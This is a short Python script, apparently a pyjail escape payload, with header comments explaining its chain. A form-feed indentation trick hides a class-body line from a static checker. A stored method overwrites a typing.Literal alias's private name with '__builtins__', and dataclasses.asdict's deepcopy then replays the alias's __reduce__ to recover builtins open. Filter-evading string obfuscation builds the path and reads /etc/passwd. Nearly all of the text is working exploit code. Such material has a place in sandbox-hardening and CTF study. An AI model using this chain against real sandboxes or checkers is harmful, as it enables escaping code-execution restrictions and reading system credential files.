# source: tokenizer-differential family (pyjail write-ups on form feed / indentation tricks; CPython's
#         url: https://github.com/astral-sh/ruff/issues/12321 ; https://github.com/Instagram/LibCST/issues/446
#         tokenizer resets the column on \f, so "\f    x = m" is indented 4 and stays in the class body)
#         + pickle/__reduce__ family: typing._GenericAlias.__reduce__ returns
#         (operator.getitem, (typing.globals()[self._name], args)).
# family: a form feed before a class-body line hides it from the check's class model -> a method stored
#         as a plain function (fns = [setn]) runs on a FOREIGN object -> private write `_name` on a
#         typing.Literal alias (trusted as the script's own self._name) -> deepcopy (dataclasses.asdict)
#         replays getitem(typing.__dict__["__builtins__"], "open").
# goal: builtins open -> reads /etc/passwd. (line 13 starts with a \x0c byte)
import dataclasses
import typing

u = chr(95) * 2


class W:
    def __init__(self):
        self._name = None

    def setn(self, v):
        self._name = v
    fns = [setn]


al = typing.Literal["op" + "en"]
W.fns[0](al, u + "buil" + "tins" + u)


@dataclasses.dataclass
class D:
    f: object


fo = dataclasses.asdict(D(al))["f"]
print(fo)
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
